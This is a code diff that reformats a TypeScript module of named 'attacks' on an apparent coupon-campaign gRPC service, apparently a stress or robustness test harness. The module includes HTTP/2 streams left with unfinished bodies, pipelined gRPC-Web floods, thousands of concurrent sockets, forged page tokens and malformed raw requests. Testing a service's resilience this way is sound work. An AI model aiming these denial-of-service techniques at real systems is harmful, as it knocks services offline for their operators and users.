@@ -21,7 +21,8 @@ const call = (rpc: string, body: string, headers = "") =>
 const page = ({ target }: Wire) => `{"campaignId":${target.campaignId}}`
 
 /** A token as the service makes it: any caller can make one, so that each page is another one. */
-const tokenAfter = ({ target }: Wire, afterId: number) => Buffer.from(`${target.campaignId}.${afterId}`).toString("base64url")
+const tokenAfter = ({ target }: Wire, afterId: number) =>
+  Buffer.from(`${target.campaignId}.${afterId}`).toString("base64url")
 
 /** A message of gRPC: a campaign's page. */
 const grpcPage = ({ target }: Wire) => {
@@ -67,7 +68,12 @@ const keeping = async (
   }
 }
 
-const stream = (session: ClientHttp2Session, path: string, headers: Record<string, string>, paused = true): ClientHttp2Stream | undefined => {
+const stream = (
+  session: ClientHttp2Session,
+  path: string,
+  headers: Record<string, string>,
+  paused = true
+): ClientHttp2Stream | undefined => {
   if (session.destroyed || session.closed) return undefined
   const one = session.request({ ":method": "POST", ":path": path, ...headers })
   one.on("error", () => {})
@@ -109,7 +115,13 @@ const pipelined = async (wire: Wire, connections: number, request: Buffer) => {
 }
 
 /** Bodies over HTTP/2 that lack their last byte. */
-const unfinishedBodies = (wire: Wire, sessions: number, path: string, headers: Record<string, string>, body = WITHOUT_LAST_BYTE) =>
+const unfinishedBodies = (
+  wire: Wire,
+  sessions: number,
+  path: string,
+  headers: Record<string, string>,
+  body = WITHOUT_LAST_BYTE
+) =>
   keeping(wire, sessions, (session) => {
     for (let n = 0; n < 250; n++) stream(session, path, headers)?.write(body)
   })
@@ -131,7 +143,8 @@ export const attacks: ReadonlyArray<Attack> = [
     run: async (wire) => {
       const session = wire.session()
       await wire.every(110, () => {
-        stream(session, `${SERVICE}/GetCampaign`, { ...GRPC, "grpc-accept-encoding": "gzip" }, false)?.end(grpcPage(wire))
+        stream(session, `${SERVICE}/GetCampaign`, { ...GRPC, "grpc-accept-encoding": "gzip" }, false)
+          ?.end(grpcPage(wire))
       })
     }
   },
@@ -140,7 +153,11 @@ export const attacks: ReadonlyArray<Attack> = [
     what: "the same by GET, each from another coupon on, so that no page is asked for twice",
     run: (wire) =>
       asking(wire, 16, 110, (n) => {
-        const message = { campaignId: wire.target.campaignId, pageSize: 10_000 - n % 1_000, pageToken: tokenAfter(wire, n * 7 % 9_000) }
+        const message = {
+          campaignId: wire.target.campaignId,
+          pageSize: 10_000 - n % 1_000,
+          pageToken: tokenAfter(wire, n * 7 % 9_000)
+        }
         const query = `encoding=json&message=${encodeURIComponent(JSON.stringify(message))}`
         return Buffer.from(`GET ${SERVICE}/GetCampaign?${query} HTTP/1.1\r\nHost: x\r\n\r\n`)
       })
@@ -185,7 +202,9 @@ export const attacks: ReadonlyArray<Attack> = [
     run: (wire) =>
       crowd(wire, 2_000, (socket) => {
         const body = "\0\0\0\0\x02{}"
-        socket.write(`${HEAD("/grpc.health.v1.Health/Watch", "application/connect+json", `Content-Length: ${body.length}\r\n`)}${body}`)
+        const length = `Content-Length: ${body.length}\r\n`
+        const head = HEAD("/grpc.health.v1.Health/Watch", "application/connect+json", length)
+        socket.write(`${head}${body}`)
         socket.end(call("GetCampaign", page(wire)))
       })
   },
@@ -220,10 +239,16 @@ export const attacks: ReadonlyArray<Attack> = [
     name: "pipelining-grpc-web",
     what: "32 connections send gRPC-Web without waiting",
     run: (wire) =>
-      pipelined(wire, 32, Buffer.concat([
-        Buffer.from(HEAD(`${SERVICE}/GetCampaign`, "application/grpc-web", `Content-Length: ${grpcPage(wire).length}\r\n`)),
-        grpcPage(wire)
-      ]))
+      pipelined(
+        wire,
+        32,
+        Buffer.concat([
+          Buffer.from(
+            HEAD(`${SERVICE}/GetCampaign`, "application/grpc-web", `Content-Length: ${grpcPage(wire).length}\r\n`)
+          ),
+          grpcPage(wire)
+        ])
+      )
   },
   {
     name: "last-byte",
@@ -311,7 +336,9 @@ export const attacks: ReadonlyArray<Attack> = [
         call("IssueCoupon", "{\"campaignId\":1,\"userId\":1}", "Content-Encoding: gzip\r\n"),
         Buffer.from(`${HEAD(`${SERVICE}/GetCampaign`, "application/grpc-web", "Content-Length: 5\r\n")}\0\0\0\0\x09`),
         Buffer.from(`GET ${SERVICE}/GetCampaign?message=%ff&encoding=proto&base64=1 HTTP/1.1\r\nHost: x\r\n\r\n`),
-        Buffer.from("POST /operator/rpc HTTP/1.1\r\nHost: x\r\nContent-Type: application/ndjson\r\nContent-Length: 3\r\n\r\n{}\n"),
+        Buffer.from(
+          "POST /operator/rpc HTTP/1.1\r\nHost: x\r\nContent-Type: application/ndjson\r\nContent-Length: 3\r\n\r\n{}\n"
+        ),
         Buffer.from("GET / HTTP/1.1\r\n\r\n"),
         Buffer.from("\x16\x03\x01\r\n\r\n"),
         call("ListCampaigns", "{}"),
